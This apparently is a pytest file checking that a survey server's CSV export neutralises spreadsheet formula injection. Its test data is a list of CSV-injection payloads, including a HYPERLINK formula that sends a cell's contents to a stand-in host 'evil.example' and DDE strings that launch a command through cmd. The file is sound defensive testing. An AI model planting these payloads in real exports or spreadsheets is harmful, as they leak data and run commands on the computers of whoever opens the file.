"""Issue #14, item 1: CSV exports never pass a spreadsheet formula through."""

from __future__ import annotations

import csv
import io
import json

import pytest
import requests
from cxlab.config import Config
from cxlab.csv_cells import csv_safe_cell
from cxlab.db import Database
from cxlab.surveys import EXAMPLES_DIR, load_definition

from survey_server.app import create_app
from survey_server.testing import publish_survey_with_key, serve_in_thread

VISIT = load_definition(EXAMPLES_DIR / "restaurant_visit.yaml")
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_export_neutralises_formulas_and_keeps_numbers(config: Config, database: Database,
                                                           formula: str):
    acme = publish_survey_with_key(database, "acme", VISIT)
    with serve_in_thread(create_app(config, database, log_stream=None)) as base_url:
        url = f"{base_url}/api/v1/surveys/{acme.survey_id}/responses"
        headers = {"Authorization": f"Bearer {acme.api_key}", "Content-Type": "application/json"}
        sent = requests.post(url, headers=headers, data=json.dumps(
            {"answers": {"nps": 0, "comment": formula}}))
        assert sent.status_code == 201
        exported = requests.get(url, headers=headers, params={"format": "csv"})
    assert exported.status_code == 200
    (row,) = list(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"), newline="")))
    # The comment arrives as text (leading '), whatever whitespace the CSV reader keeps.
    assert row["comment"].startswith("'")
    assert row["comment"][1:].strip() == formula.strip()
    assert row["nps"] == "0" and row["response_id"].isdigit()


def test_csv_safe_cell_is_the_one_rule_for_every_csv():
    assert [csv_safe_cell(f)[0] for f in FORMULAS] == ["'"] * len(FORMULAS)
    assert csv_safe_cell(-5) == -5 and csv_safe_cell(2.5) == 2.5
    assert csv_safe_cell("5 stars") == "5 stars" and csv_safe_cell("") == ""
